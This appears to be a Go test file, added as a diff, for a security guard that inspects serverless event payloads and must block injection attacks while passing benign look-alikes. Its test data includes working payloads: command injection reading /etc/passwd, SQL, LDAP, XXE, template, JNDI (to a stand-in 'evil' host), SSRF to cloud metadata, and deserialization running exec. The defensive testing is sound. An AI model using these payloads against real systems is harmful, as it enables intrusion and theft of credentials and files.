@@ -1,0 +1,89 @@
+package event
+
+import (
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"redoubt/guard/inspect"
+	"redoubt/policy"
+	"redoubt/policy/compile"
+	"redoubt/trigger"
+)
+
+// TestClassesAgree: the policy's bits are those of the inspection.
+func TestClassesAgree(t *testing.T) {
+	for c := policy.Class(1); c < policy.All; c <<= 1 {
+		if got := inspect.Class(c).String(); got != c.String() {
+			t.Errorf("%s is %s there", c, got)
+		}
+	}
+	if inspect.Class(policy.All) != inspect.All {
+		t.Error("there are others")
+	}
+}
+
+// real is a guard with the default policy, enforced, and the real inspection.
+func real(t testing.TB) *Guard {
+	t.Helper()
+	f, _ := policy.Default().Of("f")
+	f.Mode = policy.Enforce
+	p, err := compile.Function(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	g, err := New(p, World{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return g
+}
+
+func TestSamplesPassInspection(t *testing.T) {
+	g := real(t)
+	for _, k := range trigger.All() {
+		for _, s := range k.Samples() {
+			if d := g.Decide(context.Background(), Invocation{Event: s.Event}); d.Verdict != Allow {
+				t.Errorf("%s: %s", s.Name, reasons(d))
+			}
+		}
+	}
+}
+
+// TestAttacks: one of each class, in a body and elsewhere.
+func TestAttacks(t *testing.T) {
+	g := real(t)
+	for class, text := range map[string]string{
+		"command": "x; cat /etc/passwd", "sql": "' OR '1'='1' --", "path": "../../../../etc/shadow", "ssrf": "http://169.254.169.254/latest/meta-data/",
+		"template": "{{config.__class__.__init__.__globals__}}", "xss": "<script>alert(1)</script>", "jndi": "${jndi:ldap://evil/a}",
+		"xxe": `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`, "ldap": "*)(uid=*))(|(uid=*", "header": "x\r\nSet-Cookie: a=b",
+		"deserialization": `{"a":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`,
+	} {
+		quoted, _ := json.Marshal(map[string]any{"a": []string{text}})
+		for _, event := range []string{
+			request(nil, string(quoted)), batch(message("1", "", string(quoted))), string(quoted),
+			`{"Records":[{"eventSource":"aws:kinesis","kinesis":{"data":"` + base64.StdEncoding.EncodeToString(quoted) + `"}}]}`,
+		} {
+			d := g.Decide(context.Background(), Invocation{Event: []byte(event)})
+			if d.Verdict == Allow || !strings.Contains(reasons(d), class) || d.Reasons[0].Sign == "" {
+				t.Errorf("%s: %s %.60s", class, reasons(d), event)
+			}
+		}
+	}
+	for body, want := range map[string]string{
+		`{"a":{"$ne":null}}`: "nosql", `{"__proto__":{"a":1}}`: "prototype", `{"constructor":{"prototype":{"a":1}}}`: "prototype",
+		`{"constructor":"x","prototype":"y"}`: "", `{"name":"O'Brien","note":"it's fine; leave it at the door, really"}`: "",
+		`{"text":"SELECT a book from our list; drop by the table"}`: "", "a=1&b=O%27Brien": "",
+	} {
+		d := g.Decide(context.Background(), Invocation{Event: []byte(request(nil, body))})
+		if got := reasons(d); (got == "") != (want == "") || !strings.Contains(got, want) {
+			t.Errorf("%s: %q", body, got)
+		}
+	}
+	kafka := `{"eventSource":"aws:kafka","records":{"a-0":[{"headers":[{"h":[120,59,32,99,97,116,32,47,101,116,99,47,112,97,115,115,119,100]}]}]}}`
+	if d := g.Decide(context.Background(), Invocation{Event: []byte(kafka)}); !strings.Contains(reasons(d), "command") {
+		t.Errorf("Kafka's header: %q", reasons(d))
+	}
+}
